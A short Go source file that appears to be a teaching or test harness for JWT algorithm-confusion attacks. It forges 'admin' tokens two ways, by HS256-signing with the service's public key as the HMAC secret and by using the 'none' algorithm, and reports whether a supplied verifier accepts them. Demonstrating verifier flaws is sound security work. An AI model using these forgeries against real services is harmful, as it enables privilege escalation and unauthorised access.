package confusion

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"encoding/pem"
	"fmt"
	"io"

	"github.com/golang-jwt/jwt/v5"
)

// Attack has a key pair of the service, as the service and as the attacker
// know it.
type Attack struct {
	Private *ecdsa.PrivateKey
	Public  []byte // PEM, as it lies in a repository or in /jwks
}

// New returns a fresh pair.
func New() (*Attack, error) {
	private, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	der, err := x509.MarshalPKIXPublicKey(&private.PublicKey)
	if err != nil {
		return nil, err
	}
	return &Attack{private, pem.EncodeToMemory(&pem.Block{
		Type: "PUBLIC KEY", Bytes: der,
	})}, nil
}

// Run shows an honest token and two forged ones to a verifier.
func (a *Attack) Run(
	out io.Writer, verify func(token string) (*Claims, error),
) error {
	buyer := Claims{Role: "buyer"}
	// region:forge
	admin := Claims{Role: "admin"} // says who? the attacker
	tokens := []struct {
		name   string
		method jwt.SigningMethod
		claims Claims
		key    any
	}{
		{"ES256, honest", jwt.SigningMethodES256, buyer, a.Private},
		{"HS256, public key", jwt.SigningMethodHS256, admin, a.Public},
		{"none", jwt.SigningMethodNone, admin,
			jwt.UnsafeAllowNoneSignatureType},
	}
	// endregion
	for _, t := range tokens {
		token, err := jwt.NewWithClaims(t.method, t.claims).
			SignedString(t.key)
		if err != nil {
			return err
		}
		claims, err := verify(token)
		if err != nil {
			fmt.Fprintf(out, "%s:\n  refused, %v\n", t.name, err)
			continue
		}
		fmt.Fprintf(out, "%s:\n  accepted, %s\n", t.name, claims.Role)
	}
	return nil
}
